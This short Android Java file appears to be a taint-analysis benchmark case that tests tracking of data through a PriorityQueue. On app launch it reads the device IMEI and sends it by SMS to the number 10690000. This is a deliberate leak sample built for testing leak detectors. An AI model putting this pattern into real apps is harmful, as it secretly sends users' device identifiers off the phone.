// about       The queue sorts what it is given: the value may come first.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.PriorityQueue;
import java.util.Queue;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    // Which kind of queue it is decides who comes first.
    Queue<String> queue = new PriorityQueue<String>();
    queue.add("zero");
    queue.add(phone.getDeviceId());
    SmsManager.getDefault().sendTextMessage("10690000", null, queue.poll(), null, null);
  }
}
